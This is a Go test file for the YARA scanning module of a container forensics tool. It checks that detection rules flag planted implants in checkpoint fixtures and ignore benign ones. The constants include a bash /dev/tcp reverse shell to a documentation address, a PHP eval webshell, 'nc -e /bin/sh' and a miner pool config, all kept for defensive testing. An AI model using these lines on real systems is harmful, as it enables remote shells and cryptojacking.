//go:build yara

package yara_test

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/podsleuth/podsleuth/forensics"
	"github.com/podsleuth/podsleuth/forensics/archive"
	"github.com/podsleuth/podsleuth/forensics/content"
	"github.com/podsleuth/podsleuth/forensics/memory"
	"github.com/podsleuth/podsleuth/forensics/yara"
	"github.com/podsleuth/podsleuth/test/fixture"
	"github.com/podsleuth/podsleuth/test/fixtures"
)

type opened struct {
	arc *archive.Archive
	cp  *forensics.Checkpoint
	mem *memory.Memory
}

func open(t *testing.T, path string) opened {
	t.Helper()
	a, cp, m := fixture.Open(t, path)
	return opened{arc: a, cp: cp, mem: m}
}

func defaultRules(t *testing.T) *yara.Rules {
	t.Helper()
	rs, err := yara.Load(yara.LoadOptions{Default: true})
	require.NoError(t, err)
	require.Empty(t, rs.Errors)
	require.Empty(t, rs.Warnings, "the default rules compile without YARA warnings (no slow strings)")
	t.Cleanup(rs.Close)
	return rs
}

// scan runs rs over the fixture's memory and saved objects, as yara.Run does.
func scan(t *testing.T, rs *yara.Rules, o opened, opt yara.Options) *yara.Result {
	t.Helper()
	set, err := content.List(context.Background(), o.arc, o.cp, o.mem, content.Options{CacheDir: t.TempDir()})
	require.NoError(t, err)
	defer set.Close()
	n := len(o.mem.Objects)
	opt.Objects = yara.FileObjects(set, o.mem)
	res, err := yara.Scan(context.Background(), rs, o.mem, opt)
	require.Len(t, o.mem.Objects, n, "the memory index is not changed")
	require.NoError(t, err)
	require.Empty(t, res.Warnings)
	require.False(t, res.TimedOut)
	return res
}

func byRule(res *yara.Result) map[string][]yara.Hit {
	m := map[string][]yara.Hit{}
	for _, h := range res.Hits {
		m[h.Rule] = append(m[h.Rule], h)
	}
	return m
}

func rules(res *yara.Result) []string {
	var out []string
	for _, h := range res.Hits {
		out = append(out, h.Rule)
	}
	slices.Sort(out)
	return out
}

// procFacts reads the ground truth gen.sh wrote beside a fixture: the implant.info section
// (addresses the program printed) and the maps and fd lines of /proc.
type procFacts struct {
	info map[string]string
	text string
}

func readFacts(t *testing.T, name string) procFacts {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(fixtures.Dir(), name))
	require.NoError(t, err)
	f := procFacts{info: map[string]string{}, text: string(b)}
	i := strings.Index(f.text, "======== implant.info")
	if i < 0 {
		return f
	}
	sc := bufio.NewScanner(strings.NewReader(f.text[i:]))
	for sc.Scan() {
		if k, v, ok := strings.Cut(sc.Text(), " "); ok {
			f.info[k] = v
		}
	}
	return f
}

func (f procFacts) addr(t *testing.T, k string) uint64 {
	v, err := strconv.ParseUint(strings.TrimPrefix(f.info[k], "0x"), 16, 64)
	require.NoError(t, err, k)
	return v
}

// mapStart returns the start of the first /proc maps line matching re.
func (f procFacts) mapStart(t *testing.T, re string) uint64 {
	t.Helper()
	m := regexp.MustCompile(`(?m)^([0-9a-f]+)-[0-9a-f]+ ` + re).FindStringSubmatch(f.text)
	require.NotNil(t, m, re)
	v, err := strconv.ParseUint(m[1], 16, 64)
	require.NoError(t, err)
	return v
}

// src/implant.c's planted strings (decoded) and shellcode layout.
const (
	minerJSON   = `{"autosave":true,"cpu":{"enabled":true,"max-threads-hint":75},"donate-level":1,"pools":[{"algo":"rx/0","url":"stratum+tcp://pool.miner.example:3333","user":"podsleuth-implant-wallet","pass":"x","keepalive":true}]}`
	phpShell    = `<?php @eval(base64_decode($_POST['c'])); ?> `
	bashRev     = `bash -i>& /dev/tcp/203.0.113.77/4444 0>&1`
	execveAt    = 27 // socket stub 12 + xchg 2 + dup2 loop 13
	implantPath = "/tmp/podsleuth-fx-implant/"
)

// TestDefaultRulesImplant: every default rule family fires on the implant fixture, each hit at
// the address, object and holders the live process had (implant.proc.txt), and nothing else.
func TestDefaultRulesImplant(t *testing.T) {
	o := open(t, "images/implant")
	f := readFacts(t, "images/implant.proc.txt")
	pid, err := strconv.Atoi(f.info["pid"])
	require.NoError(t, err)
	res := scan(t, defaultRules(t), o, yara.Options{})
	require.Equal(t, []string{
		"fileless_elf_anonymous", "fileless_elf_memfd", "miner_stratum_pool", "miner_xmrig_config",
		"reverse_shell_dev_tcp", "reverse_shell_netcat_exec", "shellcode_x64_execve_binsh",
		"shellcode_x64_reverse_shell", "webshell_jsp_runtime_exec", "webshell_php_eval",
	}, rules(res))
	hits := byRule(res)
	one := func(rule string) yara.Hit {
		require.Len(t, hits[rule], 1, rule)
		h := hits[rule][0]
		require.Equal(t, pid, h.PID, rule)
		require.Equal(t, "implant", h.Comm, rule)
		require.Equal(t, "podsleuth", h.Namespace)
		require.NotEmpty(t, h.Meta["severity"], rule)
		require.Regexp(t, `^T\d{4}`, h.Meta["mitre_attack"], rule)
		return h
	}
	mem := func(rule string, addr uint64, region, perm string) yara.Hit {
		h := one(rule)
		require.Equal(t, yara.KindMemory, h.Kind, rule)
		require.Equal(t, addr, h.Addr, rule)
		require.Equal(t, region, h.Region, rule)
		require.Equal(t, perm, h.Perm, rule)
		require.LessOrEqual(t, h.Start, h.Addr)
		require.Greater(t, h.End, h.Addr)
		return h
	}
	elf := f.addr(t, "elf")
	h := mem("fileless_elf_anonymous", elf, "anon", "rw-p")
	require.Equal(t, elf, h.Start, "the ELF is at the mapping's first byte")
	require.Equal(t, []byte{0x7f, 'E', 'L', 'F', 2, 1, 1}, h.Strings[0].Data)

	rwx := f.addr(t, "rwx")
	h = mem("shellcode_x64_reverse_shell", rwx, "anon", "rwxp")
	require.Equal(t, []string{"$socket", "$dup2", "$execve"}, names(h))
	mem("shellcode_x64_execve_binsh", rwx+execveAt, "anon", "rwxp")

	miner := f.addr(t, "miner")
	h = mem("miner_stratum_pool", miner+uint64(strings.Index(minerJSON, "stratum+tcp")), "heap", "rw-p")
	require.Equal(t, "stratum+tcp://pool.miner.example:3333", string(h.Strings[0].Data))
	require.Equal(t, "[heap]", h.Path)
	h = mem("miner_xmrig_config", miner+uint64(strings.Index(minerJSON, `"max-threads-hint"`)), "heap", "rw-p")
	require.Contains(t, names(h), "$donate")
	require.Contains(t, names(h), "$algo")

	h = mem("reverse_shell_netcat_exec", f.addr(t, "stack"), "stack", "rw-p")
	require.Equal(t, "nc -e /bin/sh", string(h.Strings[0].Data))

	// objects: attributed to the object and the descriptors holding it
	h = one("fileless_elf_memfd")
	require.Equal(t, yara.KindMemfd, h.Kind)
	require.Equal(t, "memfd:kworker", h.Object)
	require.Equal(t, uint64(0), h.Addr)
	require.Equal(t, []memory.Holder{{PID: pid, Comm: "implant", FD: 3}}, h.Holders)

	pipe := regexp.MustCompile(`(?m)^5 -> (pipe:\[\d+\])`).FindStringSubmatch(f.text)
	require.NotNil(t, pipe)
	h = one("reverse_shell_dev_tcp")
	require.Equal(t, yara.KindPipe, h.Kind)
	require.Equal(t, pipe[1], h.Object)
	require.Equal(t, uint64(strings.Index(bashRev, "/dev/tcp")), h.Addr)
	require.Equal(t, []memory.Holder{{PID: pid, Comm: "implant", FD: 5}, {PID: pid, Comm: "implant", FD: 6}}, h.Holders)

	sock := regexp.MustCompile(`(?m)^7 -> socket:\[(\d+)\]`).FindStringSubmatch(f.text)
	require.NotNil(t, sock)
	h = one("webshell_jsp_runtime_exec")
	require.Equal(t, yara.KindSocket, h.Kind)
	require.Equal(t, "socket:["+sock[1]+"] recv queue", h.Object)
	require.Equal(t, []memory.Holder{{PID: pid, Comm: "implant", FD: 7}}, h.Holders)

	h = one("webshell_php_eval")
	require.Equal(t, yara.KindGhost, h.Kind)
	require.Equal(t, implantPath+"upload.php", h.Path)
	require.Equal(t, "ghost:"+implantPath+"upload.php", h.Object)
	require.Equal(t, []memory.Holder{{PID: pid, Comm: "implant", FD: 4}}, h.Holders)

	// the same hits as findings
	fs := yara.Findings(res)
	require.Len(t, fs, len(res.Hits))
	for _, fd := range fs {
		require.True(t, strings.HasPrefix(fd.Rule, "yara:"), fd.Rule)
		require.Equal(t, pid, fd.Location.PID)
		require.Contains(t, fd.Reason, "ATT&CK T")
	}
}

func names(h yara.Hit) []string {
	var out []string
	for _, s := range h.Strings {
		out = append(out, s.Name)
	}
	return out
}

// TestDefaultRulesPlanted: the target fixtures' planted fake ELF memfd and NOP-sled RWX page are
// found at the addresses /proc showed, in bare dumps of two CRIU versions and in container
// archives (container pids); the rootfs changes (busybox, a copy of the target binary) are
// scanned and match nothing.
func TestDefaultRulesPlanted(t *testing.T) {
	rs := defaultRules(t)
	for _, fx := range []struct {
		path, proc string
		pid        int
	}{
		{"images/full", "images/full.proc.txt", 15728},
		{"images/criu41", "images/criu41.proc.txt", 27741},
		{"archives/podman-crun.tar", "archives/podman-crun.proc.txt", 1},
		{"archives/podman-runc.tar", "archives/podman-runc.proc.txt", 1},
	} {
		t.Run(fx.path, func(t *testing.T) {
			o := open(t, fx.path)
			f := readFacts(t, fx.proc)
			res := scan(t, rs, o, yara.Options{})
			require.Equal(t, []string{"fileless_elf_memfd", "shellcode_nop_sled_anon_exec"}, rules(res))
			hits := byRule(res)
			h := hits["fileless_elf_memfd"][0]
			require.Equal(t, fx.pid, h.PID)
			require.Equal(t, yara.KindMemory, h.Kind, "the memfd is mapped: found at its address in the process")
			require.Equal(t, f.mapStart(t, `r-xs .*/memfd:payload \(deleted\)`), h.Addr)
			require.Equal(t, "memfd:payload", h.Object)
			h = hits["shellcode_nop_sled_anon_exec"][0]
			require.Equal(t, fx.pid, h.PID)
			require.Equal(t, f.mapStart(t, `rwxp 00000000 00:00 0 *$`), h.Addr)
			require.Equal(t, "rwxp", h.Perm)
			require.Equal(t, 17, h.Matches, "32 NOPs: the 16-byte sled matches at offsets 0 to 16")
			require.Len(t, h.Strings, yara.DefaultMaxStrings, "strings kept per hit are capped, all counted")
			// the memfd and shmem objects are mapped in full: scanned at their addresses in the process
			for _, k := range []string{yara.KindMemory, yara.KindPipe, yara.KindSocket, yara.KindGhost} {
				require.Positive(t, res.Kinds[k], k)
			}
			if strings.HasPrefix(fx.path, "archives/") {
				require.Positive(t, res.Kinds[yara.KindRootfs], "rootfs changes scanned (busybox, /tmp/.x/miner)")
			}
		})
	}
}

// TestDefaultRulesBenign: nothing fires on the benign fixtures: a process holding kernel objects
// (fds) and a kubelet checkpoint of a busybox pod (its rootfs changes hold a busybox binary).
func TestDefaultRulesBenign(t *testing.T) {
	rs := defaultRules(t)
	for _, p := range []string{"images/fds", "archives/containerd-busybox.tar"} {
		t.Run(p, func(t *testing.T) {
			res := scan(t, rs, open(t, p), yara.Options{})
			require.Empty(t, res.Hits)
			require.Positive(t, res.Blocks)
			require.Positive(t, res.Bytes)
		})
	}
}

// sha256hex is the hash module's output format.
func sha256hex(s string) string {
	b := sha256.Sum256([]byte(s))
	return hex.EncodeToString(b[:])
}

// TestCommunityRuleSet: a community-style set (an index including shared private rules, tags,
// score meta, the elf/math/hash/pe modules and filename/extension/filetype externals) loads
// from its directory and fires exactly where it should on the implant fixture, and nowhere on
// the benign one.
func TestCommunityRuleSet(t *testing.T) {
	rs, err := yara.Load(yara.LoadOptions{Paths: []string{"testdata/community"}})
	require.NoError(t, err)
	t.Cleanup(rs.Close)
	require.Empty(t, rs.Errors)
	require.Equal(t, []string{"testdata/community/externals.yar", "testdata/community/index.yar", "testdata/community/modules.yar"}, rs.Files,
		"lib/common.yar is included by index.yar, not compiled on its own")
	require.Equal(t, 8, rs.Count) // 7 rules + the private one

	o := open(t, "images/implant")
	f := readFacts(t, "images/implant.proc.txt")
	res := scan(t, rs, o, yara.Options{})
	require.Equal(t, []string{"Community_Miner_Wallet_In_Heap", "Low_Entropy_RWX_Page", "Memfd_Named_Like_Kernel_Thread",
		"Static_ELF_Executable_In_Memfd", "Webshell_By_Extension", "Webshell_Known_Hash"}, rules(res), "PE_In_Memory: no PE anywhere")
	hits := byRule(res)
	h := hits["Community_Miner_Wallet_In_Heap"][0]
	require.Equal(t, f.addr(t, "miner")+uint64(strings.Index(minerJSON, "podsleuth-implant-wallet")), h.Addr)
	require.Equal(t, []string{"miner", "crypto"}, h.Tags)
	require.Equal(t, "index.yar", h.Namespace)
	require.Equal(t, forensics.SeverityHigh, yara.Severity(h.Meta), "score 75")
	h = hits["Low_Entropy_RWX_Page"][0]
	require.Equal(t, f.addr(t, "rwx"), h.Addr, "a condition-only hit is placed at the mapping")
	require.Equal(t, 0, h.Matches)
	for _, r := range []string{"Static_ELF_Executable_In_Memfd", "Memfd_Named_Like_Kernel_Thread"} {
		require.Len(t, hits[r], 1, r)
		require.Equal(t, "memfd:kworker", hits[r][0].Object, r)
	}
	for _, r := range []string{"Webshell_By_Extension", "Webshell_Known_Hash"} {
		require.Len(t, hits[r], 1, r)
		require.Equal(t, implantPath+"upload.php", hits[r][0].Path, r)
		require.Equal(t, yara.KindGhost, hits[r][0].Kind, r)
	}
	require.Equal(t, "48a6da88adfc374d6a29539dd530b721bbf534e8c8adb566688fba30fbb10894", sha256hex(phpShell), "the hash rule's value")

	require.Empty(t, scan(t, rs, open(t, "images/fds"), yara.Options{}).Hits)
}

// TestBrokenRuleFile: in a directory with a broken file (and a file whose include is broken),
// the errors name the file and line, and the other files still load and fire.
func TestBrokenRuleFile(t *testing.T) {
	rs, err := yara.Load(yara.LoadOptions{Paths: []string{"testdata/broken"}})
	require.NoError(t, err)
	t.Cleanup(rs.Close)
	require.Equal(t, []string{"testdata/broken/good.yar"}, rs.Files)
	require.Len(t, rs.Errors, 2)
	abs, _ := filepath.Abs("testdata/broken")
	require.Equal(t, filepath.Join(abs, "broken.yar"), rs.Errors[0].File)
	require.Equal(t, 4, rs.Errors[0].Line)
	require.Contains(t, rs.Errors[0].Msg, "not_defined_anywhere")
	require.Equal(t, filepath.Join(abs, "inc/bad.yar"), rs.Errors[1].File, "the error is in the included file")
	require.Equal(t, 4, rs.Errors[1].Line, "where the yara CLI reports it too: the rule's end, for an undefined string")
	require.Contains(t, rs.Errors[1].Error(), "bad.yar:4: ")

	res := scan(t, rs, open(t, "images/implant"), yara.Options{})
	require.Equal(t, []string{"Good_Dev_Tcp"}, rules(res))
	require.Equal(t, yara.KindPipe, res.Hits[0].Kind)
	require.Len(t, res.LoadErrors, 2, "the result says which files did not run")

	_, err = yara.Load(yara.LoadOptions{Paths: []string{"testdata/broken/broken.yar"}})
	require.ErrorIs(t, err, yara.ErrNoRules)
	require.ErrorContains(t, err, "broken.yar:4:")
}
